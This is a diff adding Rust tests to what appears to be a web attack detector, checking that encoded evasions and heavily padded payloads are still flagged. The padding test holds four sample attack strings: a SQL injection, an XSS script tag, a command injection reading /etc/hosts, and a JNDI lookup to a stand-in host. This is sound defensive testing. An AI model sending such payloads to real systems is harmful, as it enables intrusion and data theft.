@@ -36,6 +36,58 @@ fn ordinary_people_are_left_alone() {
     assert!(alarms.is_empty(), "{}", alarms.join("\n"));
 }
 
+/// A value of `evasions.txt`: `\xNN` is a byte, `\\` a backslash.
+fn bytes(text: &str) -> Vec<u8> {
+    let (mut out, mut rest) = (Vec::new(), text);
+    while let Some(at) = rest.find('\\') {
+        out.extend_from_slice(rest[..at].as_bytes());
+        let escape = &rest[at + 1..];
+        rest = match escape.strip_prefix('x') {
+            Some(hex) => {
+                out.push(u8::from_str_radix(&hex[..2], 16).unwrap());
+                &hex[2..]
+            }
+            None => {
+                out.push(b'\\');
+                &escape[1..]
+            }
+        };
+    }
+    out.extend_from_slice(rest.as_bytes());
+    out
+}
+
+#[test]
+fn evasions_hide_nothing() {
+    let mut missed = Vec::new();
+    for line in include_str!("cases/evasions.txt").lines().filter(|line| !line.starts_with('#')) {
+        let [how, _class, value] = line.splitn(3, " | ").collect::<Vec<_>>()[..] else { panic!("{line}") };
+        let value = bytes(value);
+        for place in [Place::Query, Place::Body] {
+            if !inspect(&value, place).is_some_and(|verdict| verdict.is_attack()) {
+                missed.push(format!("{how}, {place:?}: {line}"));
+            }
+        }
+    }
+    assert!(missed.is_empty(), "{}", missed.join("\n"));
+}
+
+#[test]
+fn padding_hides_nothing() {
+    for (class, value) in [
+        ("sql", "1' or '1'='1"),
+        ("xss", "<script>alert(1)</script>"),
+        ("command", "; cat /etc/hosts"),
+        ("jndi", "${jndi:ldap://x.example/a}"),
+    ] {
+        for value in [format!("{} {value}", "x".repeat(100_000)), format!("{value} {}", "x".repeat(100_000))]
+        {
+            let verdict = inspect(value.as_bytes(), Place::Body).filter(|verdict| verdict.is_attack());
+            assert_eq!(verdict.map(|verdict| verdict.class.name()), Some(class));
+        }
+    }
+}
+
 #[test]
 fn work_is_bounded() {
     // No input may cost more than so many looks a byte, whatever it repeats.
